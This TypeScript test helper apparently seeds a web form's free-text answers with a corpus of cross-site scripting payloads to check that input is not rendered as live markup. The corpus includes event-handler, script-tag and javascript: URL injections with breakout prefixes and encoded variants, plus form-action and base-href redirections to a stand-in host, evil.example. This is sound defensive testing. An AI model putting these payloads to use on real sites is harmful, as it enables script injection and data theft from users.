import { entriesOf, listsOf } from '../../api/contract/entries.ts'
import type { Form, GivenAnswers, Questions } from '../../api/contract/form.ts'

/** What somebody might type to be run: every element says that it is `planted`, and every script calls. */
const elements = [
  '<img class=planted src=x onerror=alert(1)>',
  '<svg class=planted onload=alert(1)>',
  '<script class=planted>alert(1)</script>',
  '<iframe class=planted src=javascript:alert(1)>',
  '<a class=planted href=javascript:alert(1)>go</a>',
  '<b class=planted style=position:fixed;inset:0>over</b>',
  '<details class=planted open ontoggle=alert(1)>',
  '<input class=planted autofocus onfocus=alert(1)>',
  '<style class=planted>*{display:none}</style>',
  '<object class=planted data=javascript:alert(1)>',
  '<form class=planted action=//evil.example><button>ok',
  '<base class=planted href=//evil.example>',
]

/** What may come before: the end of wherever it stands. */
const wayOut = ['', '">', "'>", '</textarea>', '</title>', '-->', '${alert(1)}']

const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '\\u003c'),
]

export const corpus: readonly string[] = encodings.flatMap((encode) =>
  wayOut.flatMap((start) => elements.map((element) => encode(start + element))),
)

/** Spread, so that every text of a form gets some. */
const mostInOne = 20

/** The same answers with strings of the corpus for every text that may be any. What was placed is out of `queue`. */
export function plant(form: Form, answers: GivenAnswers, queue: string[]): GivenAnswers {
  const pages = form.steps.flatMap(({ pages }) => pages)
  const texts = pages.map((page) => ('list' in page ? {} : plantTexts(page.questions, answers, queue)))
  const lists = listsOf(form).map(({ name, questions }) => ({
    [name]: entriesOf(answers[name]).map((entry) => ({ ...entry, ...plantTexts(questions, entry, queue) })),
  }))
  return [...texts, ...lists].reduce<GivenAnswers>((planted, some) => ({ ...planted, ...some }), answers)
}

/** What has too little room for any of it stays as it is. */
function plantTexts(questions: Questions, given: GivenAnswers, queue: string[]): Record<string, string> {
  const planted: Record<string, string> = {}
  for (const [name, question] of Object.entries(questions)) {
    if (question.kind !== 'text' || question.format !== undefined || given[name] === undefined) continue
    const text = take(queue, question.most)
    if (text !== '') planted[name] = text
  }
  return planted
}

function take(queue: string[], most: number): string {
  const taken: string[] = []
  while (queue[0] !== undefined && taken.length < mostInOne && [...taken, queue[0]].join(' ').length <= most) {
    taken.push(...queue.splice(0, 1))
  }
  return taken.join(' ')
}
